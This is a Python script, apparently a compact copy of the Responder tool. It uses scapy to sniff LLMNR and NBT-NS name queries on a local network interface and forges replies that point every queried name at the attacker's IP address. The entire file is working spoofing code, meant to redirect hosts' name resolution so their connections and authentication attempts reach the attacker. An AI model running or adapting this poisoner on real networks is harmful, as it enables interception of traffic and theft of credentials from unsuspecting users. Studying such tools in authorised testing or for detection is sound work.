# Responder-style LLMNR (RFC 4795) and NBT-NS (RFC 1002) poisoning: every name query sniffed is answered with the
# attacker's address. Sniffing and sending through scapy; answers built from the query bytes as Responder does.
# Usage: responder.py IFACE MY_IP SECONDS
import socket, struct, sys
from scapy.all import sniff, sendp, Ether, IP, UDP, Raw, get_if_hwaddr, conf

conf.verb = 0
iface, me, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
mac = get_if_hwaddr(iface)
addr = socket.inet_aton(me)

def question_end(data):
    off = 12
    while data[off] != 0:
        off += 1 + data[off]
    return off + 1 + 4

def answer(p):
    if IP not in p or UDP not in p or p[IP].src == me:
        return
    data = bytes(p[UDP].payload)
    if len(data) < 17 or data[2] & 0x80:
        return
    q = data[12:question_end(data)]
    if p[UDP].dport == 5355:
        # Header: same id, QR, 1 question, 1 answer; answer name points at the question (0xc00c).
        body = data[:2] + struct.pack('>HHHHH', 0x8000, 1, 1, 0, 0) + q + struct.pack('>HHHIH', 0xc00c, 1, 1, 30, 4) + addr
        sport = 5355
    elif p[UDP].dport == 137:
        name = q[:-4]
        body = data[:2] + struct.pack('>HHHHH', 0x8500, 0, 1, 0, 0) + name + struct.pack('>HHIH', 0x20, 1, 300, 6) + b'\x00\x00' + addr
        sport = 137
    else:
        return
    sendp(Ether(src=mac, dst=p[Ether].src) / IP(src=me, dst=p[IP].src) / UDP(sport=sport, dport=p[UDP].sport) / Raw(body), iface=iface)

sniff(iface=iface, filter='udp and (port 5355 or port 137)', prn=answer, timeout=seconds, started_callback=lambda: print('ready', flush=True))
